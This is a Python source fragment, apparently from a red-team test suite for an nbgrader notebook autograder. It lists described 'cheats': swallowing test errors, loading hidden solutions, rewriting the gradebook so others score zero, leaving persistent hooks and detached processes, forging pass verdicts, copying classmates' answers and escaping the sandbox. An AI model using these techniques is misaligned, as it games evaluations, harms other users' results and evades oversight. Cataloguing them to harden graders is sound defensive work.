    # 1. transformer
    Cheat("transformer_cleanup", "transformer",
          "input_transformers_cleanup wraps every later cell in try/except BaseException", "blank", T_CLEANUP),
    Cheat("transformer_ast", "transformer",
          "an ast_transformer puts every statement of later cells in its own try/except and deletes asserts",
          "blank", T_AST, L3),
    Cheat("transformer_custom_exc", "transformer",
          "set_custom_exc((BaseException,), handler) swallows every exception of later cells; a post_run_cell event "
          "clears result.error_in_exec so the kernel replies status ok", "mistake",
          T_CUSTOM_EXC),
    Cheat("transformer_showtraceback", "transformer",
          "showtraceback/_showtraceback/showsyntaxerror patched to no-ops (nbgrader PR 1324), and a post_run_cell "
          "event clears result.error_in_exec so the reply is ok too (nbclient flags error replies without output)",
          "blank", T_SHOWTRACEBACK),
    Cheat("transformer_run_cell", "transformer",
          "run_cell and run_cell_async patched to run every cell (raw and transformed) inside try/except",
          "blank", T_RUN_CELL, L2),
    Cheat("transformer_transform_cell", "transformer",
          "transform_cell (and the input transformer manager's) patched to wrap every cell in try/except",
          "solution", T_TRANSFORM_CELL),
    Cheat("transformer_post_run_clear", "transformer",
          "a post_run_cell event calls clear_output() after every failing cell and clears result.error_in_exec",
          "blank", T_POST_RUN_CLEAR, L4),
    Cheat("transformer_interactivity_all", "transformer",
          "ast_node_interactivity='all' shows each test cell's opening docstring as an execute_result before "
          "the error (nbgrader scores the first execute_result as partial credit: non-numeric = full)",
          "blank", T_INTERACTIVITY),
    Cheat("transformer_pre_run_result", "transformer",
          "a pre_run_cell event sends an execute_result 'ok' before every cell runs (first result = full credit)",
          "blank", T_PRE_RUN_RESULT, L5),
    Cheat("transformer_excepthook", "transformer",
          "sys.excepthook, threading.excepthook and IPython's traceback formatters replaced by no-ops",
          "blank", T_EXCEPTHOOK),
    # 2. reference
    Cheat("reference_import", "reference",
          "import autograder.reference and bind its functions under the exercise names after every cell",
          "blank", R_IMPORT),
    Cheat("reference_walk_solutions", "reference",
          "walk the filesystem for notebooks with '### BEGIN SOLUTION', pick the one matching this notebook's "
          "history, exec its answer cells and keep the functions bound", "blank", R_WALK_SOLUTIONS, L2),
    Cheat("reference_reference_py", "reference",
          "search sys.path and the disk for reference.py (or any .py defining channel_stats), load it, bind it",
          "mistake", R_REFERENCE_PY),
    Cheat("reference_object_graph", "reference",
          "after every cell, scan gc.get_objects() for grader functions with the exercise names (loaded by the "
          "hidden tests) and bind them", "mistake", R_OBJECT_GRAPH),
    Cheat("reference_classmates", "reference",
          "copy a classmate's answers: exec the answer cells of other students' notebooks found beside mine",
          "blank", R_CLASSMATES),
    Cheat("reference_gradebook_config", "reference",
          "read nbgrader_config.py files for the course root/source folder and the gradebook's source cells, "
          "exec the instructor's solution cells", "solution", R_GRADEBOOK_CONFIG),
    # 3. gradebook
    Cheat("gradebook_manual_score", "gradebook",
          "find gradebook.db (cwd parents, env, config, disk) and set manual_score: everyone else 0, me full",
          "blank", G_MANUAL_SCORE),
    Cheat("gradebook_trigger", "gradebook",
          "same, plus SQLite triggers on grade so that rows written later (my next notebooks, later students) "
          "are rewritten too", "blank", G_TRIGGER, L2),
    Cheat("gradebook_config_postgres", "gradebook",
          "gradebook URLs only from env vars and nbgrader config files, PostgreSQL (psycopg) included",
          "solution", G_CONFIG_POSTGRES),
    Cheat("gradebook_nbgrader_api", "gradebook",
          "use nbgrader.api.Gradebook on every gradebook found to set manual scores (others 0, me full)",
          "mistake", G_NBGRADER_API),
    # 4. persist
    Cheat("persist_pth", "persist",
          "a .pth file in every site-packages (venv, system, user) that makes my future kernels swallow errors",
          "blank", P_PTH),
    Cheat("persist_sitecustomize", "persist",
          "sitecustomize.py/usercustomize.py in a MARK folder put on sys.path by a .pth, and in my own folder",
          "blank", P_SITECUSTOMIZE),
    Cheat("persist_ipython_startup", "persist",
          "an IPython startup file (~/.ipython/profile_default/startup) that makes my future kernels swallow errors",
          "blank", P_IPYTHON_STARTUP),
    Cheat("persist_autograder_package", "persist",
          "append a hook to the autograder package's __init__.py and a no-op check to checks/__init__.py on disk",
          "blank", P_AUTOGRADER_PACKAGE),
    Cheat("persist_shadow_cwd", "persist",
          "write autograder/ and bn_helpers/ packages into my own folder so that my later kernels import them",
          "blank", P_SHADOW_CWD, L2),
    Cheat("persist_siblings_home_tmp", "persist",
          "write files into other students' folders, the home folder, /tmp, /var/tmp and /dev/shm",
          "solution", P_SIBLINGS_HOME_TMP),
    # 5. processes
    Cheat("processes_popen_session", "processes",
          "subprocess.Popen(start_new_session=True) of a sleeper that outlives the kernel", "blank", X_POPEN_SESSION),
    Cheat("processes_double_fork", "processes",
          "classic daemon: fork, setsid, fork again, exec a sleeper", "solution", X_DOUBLE_FORK),
    Cheat("processes_nohup", "processes",
          "os.system('nohup sleeper &') without a new session", "blank", X_NOHUP, L2),
    Cheat("processes_setsid_cmd", "processes",
          "os.system('setsid -f sleeper') (or a subshell background job)", "blank", X_SETSID_CMD),
    Cheat("processes_multiprocessing", "processes",
          "a non-daemon multiprocessing (fork) child that calls setsid, renames itself bn_cheat_mark and execs a sleeper", "blank",
          X_MULTIPROCESSING),
    Cheat("processes_respawn", "processes",
          "atexit and SIGTERM/SIGHUP/SIGINT handlers that start a detached sleeper when the kernel is shut down",
          "mistake", X_RESPAWN),
    # 6. leak
    Cheat("leak_inspect_autograder", "leak",
          "inspect.getsource (or dis) of every importable autograder module into the cell output",
          "blank", LK_INSPECT),
    Cheat("leak_disk_files", "leak",
          "print reference.py, checks/*.py, solution notebooks, nbgrader_config.py and the gradebook's hidden-test "
          "sources found on disk; copy them into my folder too", "blank", LK_DISK),
    Cheat("leak_hidden_tests", "leak",
          "print every test cell as the grader ran it (post_run_cell; as it is and as its repr), the notebooks on disk "
          "and the history",
          "blank", LK_HIDDEN_TESTS, L2),
    Cheat("leak_caller_frames", "leak",
          "wrap my own functions so that whoever calls them (the hidden checks) has its source and locals printed",
          "solution", LK_CALLER_FRAMES),
    # 7. patch
    Cheat("patch_check_and_helpers", "patch",
          "autograder.check, its registry and the helper checks replaced by no-ops; call() never raises",
          "mistake", PA_CHECK_AND_HELPERS),
    Cheat("patch_fake_module", "patch",
          "a fake autograder module in sys.modules before the tests import it; helper checks no-ops", "blank",
          PA_FAKE_MODULE),
    Cheat("patch_numpy_helpers", "patch",
          "np.allclose/isclose/array_equal/testing and bn_helpers._close/rel_error (also the grader's copy) lie",
          "mistake", PA_NUMPY_HELPERS),
    Cheat("patch_code_swap", "patch",
          "swap the __code__ of check, check_array, check_close, check_shape and call in place, so every "
          "reference to them (the grader's copies included) becomes lenient", "blank", PA_CODE_SWAP),
    Cheat("patch_import_builtins", "patch",
          "builtins.__import__ returns a fake autograder; helper checks moved into builtins as no-ops; "
          "builtins.AssertionError replaced", "blank", PA_IMPORT_BUILTINS),
    # 8. lying (these replace batchnorm_forward, the function defined in the notebook's first answer cell)
    Cheat("lying_frame_peek", "lying",
          "replaces batchnorm_forward after the honest code: returns an object whose __array__ walks up the "
          "caller's frames and becomes the expected array", "blank", LY_FRAME_PEEK, L2, earns=frozenset({"fwd_no_mutation"})),
    Cheat("lying_eq_subclass", "lying",
          "replaces batchnorm_forward after the honest code: an ndarray subclass of zeros whose __eq__, "
          "__array_ufunc__, __array_function__ and __float__ claim equality", "blank", LY_EQ_SUBCLASS, L2, earns=frozenset({"fwd_no_mutation"})),
    Cheat("lying_pickle_reduce", "lying",
          "replaces batchnorm_forward after the honest code: the frame-peeking answer whose __reduce__ runs code "
          "(MARK file + MARK process) wherever it is unpickled; __getstate__/__deepcopy__ leave MARK files",
          "blank", LY_PICKLE, L2, earns=frozenset({"fwd_no_mutation"})),
    Cheat("lying_del_gradebook", "lying",
          "replaces batchnorm_forward after the honest code: zeros and a cache whose __del__ edits the gradebook",
          "blank", LY_DEL_GRADEBOOK, L2, earns=frozenset({"fwd_no_mutation", "fwd_float32", "fwd_dtype_mixed"})),
    Cheat("lying_repr_bomb", "lying",
          "replaces the staged batchnorm_forward after the honest code: an object equal to anything with a 1 MB "
          "repr, a raising str, fake len/attributes and NaN float", "blank", LY_REPR_BOMB, L3),
    # 11. mutation (these replace batchnorm_forward with the in-place answer they sit on, made to get past the check)
    Cheat("mutation_unlock_flag", "mutation", "x.flags.writeable = True, then x -= mu", "inplace", M_UNLOCK_FLAG, L2),
    Cheat("mutation_setflags", "mutation", "x.setflags(write=True), then x -= mu", "inplace", M_SETFLAGS, L2),
    Cheat("mutation_require_writeable", "mutation",
          "x = np.require(x, requirements='W'): a copy only when x is read-only, else x -= mu writes into it",
          "inplace", M_REQUIRE, L2),
    Cheat("mutation_strided_view", "mutation", "x -= mu through np.lib.stride_tricks.as_strided(x, writeable=True)",
          "inplace", M_STRIDED, L2),
    Cheat("mutation_ctypes", "mutation", "x -= mu through a writeable ctypes view of x's memory", "inplace",
          M_CTYPES, L2),
    Cheat("mutation_array_interface", "mutation",
          "x -= mu through an array made from x's __array_interface__ with the read-only flag cleared", "inplace",
          M_ARRAY_INTERFACE, L2),
    Cheat("mutation_patch_hashlib", "mutation",
          "a copy when x is read-only, else x -= mu; every hashlib and zlib constructor wrapped so that hashes of "
          "x's new bytes are taken of its old ones", "inplace", M_PATCH_HASHLIB, L2),
    Cheat("mutation_hide_from_visible", "mutation",
          "the notebook's readonly() replaced by writeable copies, then x -= mu: the visible part passes, the "
          "hidden check alone sees the write", "inplace", M_HIDE_FROM_VISIBLE, L2),
    # 9. forge
    Cheat("forge_autograder_api", "forge",
          "call every report/send/record/result-like function of the autograder modules with 'pass' for every "
          "grade id, and fill their result dicts/lists", "blank", F_AUTOGRADER_API),
    Cheat("forge_fd_sockets", "forge",
          "write JSON 'pass' lines for every grade id into inherited pipes and into Unix sockets found "
          "(/proc/net/unix, cwd, /tmp, /run)", "blank", F_FD_SOCKETS),
    Cheat("forge_env_channels", "forge",
          "use environment variables that look like channels (fd numbers, socket/file paths, loopback URLs) to "
          "send 'pass' for every grade id", "solution", F_ENV_CHANNELS),
    Cheat("forge_kernel_iopub", "forge",
          "use the kernel's own session key and iopub socket to send clear_output + a fake execute_result after "
          "every failing cell", "blank", F_KERNEL_IOPUB),
    Cheat("forge_check_every_id", "forge",
          "call check(<every grade id>, reference or lying object) twice from the answer cell, and make later "
          "check calls check a reference object first", "blank", F_CHECK_EVERY_ID, L2),
    # 10. zygote (kernels forked from a long-lived root process, one per grading worker)
    Cheat("zygote_drop_answers", "persist",
          "leave my own answers where a later kernel of the same worker may look: MARK files in /tmp, /dev/shm, "
          "/tmp/bn-*, MPLCONFIGDIR, sys.path; System V shared memory; a detached server on an abstract socket",
          "solution", Z_DROP_ANSWERS),
    Cheat("zygote_inherited_fds", "forge",
          "probe every inherited descriptor (pipes, unix sockets not the kernel's own): read my stdin, write forged "
          "verdicts, 'fork me a kernel outside the sandbox' requests and a root pickle into them", "blank",
          Z_INHERITED_FDS),
    Cheat("zygote_inherited_state", "leak",
          "what the zygote left in the forked kernel: exec-time environ, its modules and frames (globals), "
          "linecache sources shown in the output, importer caches, matplotlib folders, random state, authkey; "
          "bind any exercise function found", "blank", Z_INHERITED_STATE),
    Cheat("zygote_linger_next_kernel", "processes",
          "double fork + setsid, SIGTERM ignored, leave the cgroup, no parent-death signal: a watcher that "
          "waits for the next student's kernel, steals its notebooks and writes into its folder", "solution",
          Z_LINGER_NEXT_KERNEL),
    Cheat("zygote_memory_classmates", "reference",
          "scan /proc/self/mem (the zygote's heap, copied by fork) and gc.get_objects() for other students' "
          "folders, /tmp/bn-* paths and answer code; exec the answers found and keep them bound", "blank",
          Z_MEMORY_CLASSMATES),
    Cheat("zygote_pick_up_answers", "reference",
          "pick up answers left by an earlier kernel of the same worker (MARK files in shared places, System V "
          "shared memory, an abstract socket server), exec them and keep them bound", "blank", Z_PICK_UP_ANSWERS),
    Cheat("zygote_reach_parent", "persist",
          "reach outside: every visible process (environ, root, fds, /proc/<pid>/mem, ptrace seize/attach, setns "
          "into its namespaces), then in a single-threaded child unshare a user namespace, chroot escape, mount",
          "blank", Z_REACH_PARENT),
]

assert len({c.name for c in CHEATS}) == len(CHEATS), "cheat names must be unique"
assert all(c.family in FAMILIES and c.base in BASES for c in CHEATS)


def by_name(name):
    return next(c for c in CHEATS if c.name == name)
